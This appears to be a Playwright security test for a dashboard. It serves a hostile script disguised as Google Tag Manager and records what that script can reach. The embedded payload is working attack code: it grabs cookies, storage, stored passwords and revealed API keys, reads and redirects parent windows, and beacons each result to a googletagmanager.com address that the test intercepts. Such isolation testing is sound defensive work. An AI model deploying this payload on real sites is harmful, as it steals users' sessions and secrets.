import type { Page } from "playwright";
import { agents } from "./visit";
import { eventually } from "./wait";

/** What happened each time a vendor's script tried to read or change something. */
export type Loot = Record<string, string>;

const report = "https://www.googletagmanager.com/a?";

/** A vendor's script that tries to reach the dashboard at `target` in every way that scripts have. */
const hostile = (target: string) => `!function(){
var target=${JSON.stringify(target)},settings=target+"/dashboard/settings";
function wait(ms){return new Promise(function(done){setTimeout(done,ms)})}
function frame(){var f=document.createElement("iframe");document.body.appendChild(f);return f}
// Everything that a window of the dashboard shows: its text, and the key after its button was pressed.
async function all(w){for(var n=0;n<40;n++){await wait(100);var d=w.document;if(!/Sign|Konto|API/.test(d.body&&d.body.innerText))continue;
[].forEach.call(d.querySelectorAll("button"),function(b){if(/^Show/.test(b.innerText))b.click()});
if(n>25)return d.body.innerText+[].map.call(d.querySelectorAll("input"),function(i){return i.value})}return "never came"}
var tries={
cookies:function(){return document.cookie},
"cookies of a new frame":function(){return frame().contentDocument.cookie},
storage:function(){return JSON.stringify(Object.assign({},localStorage))+JSON.stringify(Object.assign({},sessionStorage))},
"storage of a new frame":function(){return JSON.stringify(Object.assign({},frame().contentWindow.localStorage))},
databases:async function(){return JSON.stringify(await indexedDB.databases())},
caches:async function(){return JSON.stringify(await caches.keys())},
fetch:async function(){return (await fetch(settings,{credentials:"include"})).text()},
"fetch of the API":async function(){return (await fetch(target+"/api/account",{credentials:"include"})).text()},
"fetch of its own page":async function(){return (await fetch(location.href,{credentials:"include"})).text()},
request:function(){return new Promise(function(done,fail){var r=new XMLHttpRequest;r.open("GET",settings);r.withCredentials=true;
r.onload=function(){done(r.responseText)};r.onerror=function(){fail(Error("refused"))};r.send()})},
"fetch of a new frame":async function(){return (await frame().contentWindow.fetch(settings,{credentials:"include"})).text()},
events:function(){return new Promise(function(done,fail){var s=new EventSource(settings,{withCredentials:true});s.onmessage=function(e){done(e.data)};
s.onerror=function(){fail(Error("refused"))}})},
worker:function(){return new Promise(function(done,fail){var w=new Worker(URL.createObjectURL(new Blob(["fetch("+JSON.stringify(settings)+",{credentials:'include'}).then(r=>r.text()).then(postMessage)"])));
w.onmessage=function(e){done(e.data)};w.onerror=function(){fail(Error("refused"))}})},
"service worker":async function(){return "registered "+(await navigator.serviceWorker.register("/alias.js",{scope:"/"})).scope},
script:function(){return new Promise(function(done,fail){var s=document.createElement("script");s.src=settings;s.onload=function(){done("ran")};
s.onerror=function(){fail(Error("refused"))};document.head.appendChild(s)})},
frame:async function(){var f=frame();f.src=settings;return all(f.contentWindow)},
parent:function(){return parent===self?"none":parent.document.body.innerText},
top:function(){return top===self?"none":top.document.body.innerText},
opener:function(){return window.opener?opener.document.body.innerText:"none"},
"change of the page":function(){if(parent===self)return "none";parent.document.title="Log in";return "changed "+parent.document.title},
"change of the address":function(){if(parent===self)return "none";parent.history.replaceState(0,"","/login");return "changed"},
"way elsewhere":function(){if(top===self)return "none";top.location="https://www.googletagmanager.com/stolen";return "led away"},
message:function(){return new Promise(function(done){addEventListener("message",function(e){done(JSON.stringify(e.data))});
parent.postMessage({ask:"key"},"*");setTimeout(done,500,"no answer")})},
channel:function(){return new Promise(function(done){new BroadcastChannel("signpost").onmessage=function(e){done(e.data)};setTimeout(done,300,"no answer")})},
form:async function(){var f=frame();f.name="sent";var form=document.createElement("form");form.method="post";form.action=target+"/stolen-form";form.target="sent";
form.innerHTML="<input name=email value=thief@example.com>";document.body.appendChild(form);form.submit();await wait(300);return "sent"},
credentials:async function(){return JSON.stringify(await navigator.credentials.get({password:true,mediation:"silent"}))},
"window without a click":async function(){var w=window.open(settings);return w?all(w):"refused"}
};
async function run(tries){for(var way in tries){var got;
try{got=String(await Promise.race([tries[way](),wait(3000).then(function(){return "no answer"})]))}catch(e){got="refused: "+e.name}
new Image().src=${JSON.stringify(report)}+new URLSearchParams([[way,got.slice(0,6000)]])}
new Image().src=${JSON.stringify(report)}+"end=1"}
run(tries);
addEventListener("click",function once(){removeEventListener("click",once,true);var w=window.open(settings);
run({"window after a click":function(){return w?all(w):"refused"}})},true)}()`;

/** Opens `address`, whose tag manager is hostile, clicks on the page, and returns what the script reports. */
export async function robbed(page: Page, address: string, target: string): Promise<Loot> {
  const loot: Loot = {};
  // A headless browser names itself and counts as a bot. Extra headers would not reach other hosts.
  const browser = await page.context().newCDPSession(page);
  await browser.send("Network.setUserAgentOverride", { userAgent: agents.windows });
  await page.context().route(/^https:\/\/(?!.*\.test)/, (route) => {
    const { searchParams, pathname } = new URL(route.request().url());
    if (pathname === "/gtm.js") return route.fulfill({ contentType: "text/javascript", body: hostile(target) });
    if (pathname === "/a") Object.assign(loot, Object.fromEntries(searchParams));
    if (pathname === "/stolen") loot.way = "led away";
    return route.fulfill({ status: 204, body: "" });
  });
  await page.goto(address);
  await eventually(async () => {
    if (!loot.end) throw new Error(`The script has not come to its end: ${JSON.stringify(loot)}`);
  }, 60_000);
  delete loot.end;
  await page.locator("h1, iframe").first().click();
  // A script that receives the click reports the result.
  await page.waitForTimeout(500);
  if (page.context().pages().length > 1)
    await eventually(async () => {
      if (!loot.end) throw new Error("The window's text has not come.");
    });
  return loot;
}
